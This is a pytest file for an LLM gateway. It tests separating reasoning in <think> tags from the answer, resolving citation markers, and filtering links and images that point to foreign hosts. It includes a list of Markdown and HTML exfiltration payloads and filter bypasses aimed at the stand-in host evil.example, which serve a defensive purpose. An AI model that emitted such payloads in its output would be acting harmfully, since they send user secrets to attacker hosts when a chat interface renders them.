"""What the gateway makes of a model's text: reasoning split from the answer (whole and in any
chunking), only cited passages as citations, and no links or images to foreign hosts."""

from __future__ import annotations

import re

import pytest

from services.kb.access import Acl
from services.kb.answer import citations_for
from services.kb.classification import Classification
from services.kb.models import Chunk, Hit
from services.llm.citations import markers, resolve
from services.llm.output import REMOVED, LinkFilter, LinkPolicy
from services.llm.reasoning import Delta, ThinkSplitter, UnterminatedReasoning

R1 = "<think>\nThe handbook says thirty.\n</think>\n\nEmployees get 30 days [1]."


def _split(text: str, size: int, opened: bool | None = False) -> tuple[str, str]:
    splitter = ThinkSplitter(opened=opened)
    out: list[Delta] = []
    for i in range(0, len(text), size):
        out += splitter.feed(text[i : i + size])
    out += splitter.finish()
    return (
        "".join(d.text for d in out if d.kind == "reasoning"),
        "".join(d.text for d in out if d.kind == "content"),
    )


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 1000])
def test_think_tags_split_across_chunks(size: int) -> None:
    reasoning, answer = _split(R1, size)
    assert reasoning == "\nThe handbook says thirty.\n" and answer == "Employees get 30 days [1]."


@pytest.mark.parametrize("size", [1, 4, 1000])
def test_template_opened_think_and_plain_models(size: int) -> None:
    # DeepSeek-R1's newer template ends the prompt with "<think>\n": only the close arrives
    assert _split("Thirty.</think>It is 30 [1].", size, opened=True) == ("Thirty.", "It is 30 [1].")
    assert _split("<think>x</think>y", size, opened=True) == ("x", "y")
    # a model that does not reason: everything is the answer, a later tag is text
    assert _split("Plain answer with <think> in it.", size) == ("", "Plain answer with <think> in it.")


def test_unterminated_reasoning_is_an_error() -> None:
    for text, opened in (("<think>still thinking", False), ("thinking", True)):
        splitter = ThinkSplitter(opened=opened)
        splitter.feed(text)
        with pytest.raises(UnterminatedReasoning, match="still reasoning"):
            splitter.finish()


EVERYONE = Acl.everyone()


def _hits(*texts: str) -> list[Hit]:
    return [
        Hit(
            Chunk(
                f"c{i}",
                f"d{i}",
                "v",
                0,
                t,
                Classification.INTERNAL,
                f"s{i}.md",
                0,
                {"title": f"T{i}"},
                EVERYONE,
            ),
            0.9,
        )
        for i, t in enumerate(texts, 1)
    ]


def test_only_cited_passages_are_citations_with_quotes_and_unknown_markers() -> None:
    hits = _hits(
        "Parking costs five euros a day.", "Full-time staff get 30 vacation days per year.", "Other."
    )
    answer = 'Staff get "30 vacation days per year" [2]; see also [2, 7] and [1][9].'
    assert markers(answer) == [2, 7, 1, 9]
    found = resolve(answer, hits, citations_for(hits))
    assert [c.n for c in found.citations] == [2, 1]  # in the order first cited, numbers kept
    assert found.quotes == {2: "30 vacation days per year"}
    assert found.unknown == [7, 9]
    assert resolve("No markers at all.", hits, citations_for(hits)).citations == []


POLICY = LinkPolicy(["kb.example"])
DIRTY = (
    "See [1]. ![x](https://evil.example/?q=secret) [doc](https://kb.example/v1/d) "
    "[bad](http://evil.example/a) <https://evil.example/x> https://evil.example/y?d=1 "
    '<img src="https://evil.example/i.png"> ![ok](https://kb.example/i.png)\n'
    "[r]: https://evil.example/ref\n![a][r] done [2]. a < b! Wow!"
)
# each renders a request to evil.example in a Markdown/HTML chat UI unless made inert
BYPASSES = [
    "![a [b] c](//evil.example/q)",
    "![a\nb](//evil.example/q)",
    "![a\\]b](//evil.example/q)",
    "![x](//evil.example/q (t))",
    '![x](//evil.example/q "a\\"b")',
    "![x](<//evil.example/a b>)",
    "![[a](https://kb.example/)](//evil.example/q)",
    "![a [b]](https&#58;//evil.example/q)",
    "> [r]: //evil.example/q\n\n![r]",
    "- [r]: //evil.example/q\n\n![r]",
    "[r]:\n//evil.example/q\n\n![r]",
    "<<img>img src=//evil.example/q>",
    "!<https://x.example/>(//evil.example/q)",
    "<video poster=//evil.example/q>",
    "<picture><source srcset=//evil.example/q></picture>",
    '<a href="javascript:fetch(1)">x</a>',
    '<video poster="https://evil.example\\@kb.example/q?S">',
    "[x](https://kb.example@evil.example/)",
    "www.evil.example/?q=S",
    "\\[" + "x" * 2100 + "](//evil.example/?q=SECRET)",
    "![ok](HTTPS://EVIL.EXAMPLE/q)",
]


def _renders_a_foreign_url(text: str) -> bool:
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).render(text).lower()
    # what a browser fetches or follows: an attribute of a tag that is really there
    attributes = re.findall(r"<[a-z][^>]*?\b(?:src|href|poster|srcset|data)\s*=\s*[\"']?([^\"'\s>]*)", html)
    return any("evil.example" in a or a.startswith("javascript:") for a in attributes)


def test_links_and_images_to_foreign_hosts_are_made_inert() -> None:
    assert sum(_renders_a_foreign_url(b) for b in BYPASSES) >= 15  # raw, they do reach the host
    clean = POLICY.clean(DIRTY)
    assert not _renders_a_foreign_url(clean) and "secret" not in clean
    assert "[doc](https://kb.example/v1/d)" in clean and "![ok](https://kb.example/i.png)" in clean
    assert "[1]" in clean and "[2]" in clean and REMOVED in clean


@pytest.mark.parametrize("attack", BYPASSES)
def test_known_bypasses_stay_inert_whole_and_streamed(attack: str) -> None:
    clean = POLICY.clean(attack)
    assert not _renders_a_foreign_url(clean), clean
    for size in (1, 2, 3, 7, 50):
        f = LinkFilter(POLICY)
        out = "".join(f.feed(attack[i : i + size]) for i in range(0, len(attack), size)) + f.finish()
        assert out == clean


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_link_filter_on_a_stream_matches_the_whole_text(size: int) -> None:
    f = LinkFilter(POLICY)
    out = "".join(f.feed(DIRTY[i : i + size]) for i in range(0, len(DIRTY), size)) + f.finish()
    assert out == POLICY.clean(DIRTY)


def test_an_image_url_never_leaves_before_it_is_complete() -> None:
    f = LinkFilter(POLICY)
    sent = f.feed("Answer ![x](https://evil") + f.feed(".example/?q=secret")
    assert "evil" not in sent and "![" not in sent
    sent += f.feed(") done") + f.finish()
    assert sent == POLICY.clean("Answer ![x](https://evil.example/?q=secret) done")
    assert not _renders_a_foreign_url(sent) and "secret" not in sent


def test_citation_markers_and_plain_text_stream_without_delay() -> None:
    f = LinkFilter(POLICY)
    assert f.feed("Thirty days [1] a year ") == "Thirty days [1] a year "  # nothing held back


def test_cleaning_is_linear() -> None:
    import time

    started = time.perf_counter()
    POLICY.clean("[" * 40000)
    POLICY.clean("![a](" * 4000 + " " * 20000)
    assert time.perf_counter() - started < 2


def test_marker_edge_cases() -> None:
    hits = _hits("One.", "Two.")
    found = resolve("See [1, 99999], `arr[2]`, [\uff11] and ```x[2]```.", hits, citations_for(hits))
    assert [c.n for c in found.citations] == [1] and found.unknown == [99999]


@pytest.mark.parametrize("size", [1, 3, 1000])
def test_unknown_template_holds_until_the_text_tells(size: int) -> None:
    # the template may have opened <think> (only the close arrives) -- or the model does not think
    assert _split("Weighing [2].</think>\n\nThirty [1].", size, opened=None) == (
        "Weighing [2].",
        "Thirty [1].",
    )
    assert _split("<think>x</think>y", size, opened=None) == ("x", "y")
    assert _split("Just an answer [1].", size, opened=None) == ("", "Just an answer [1].")
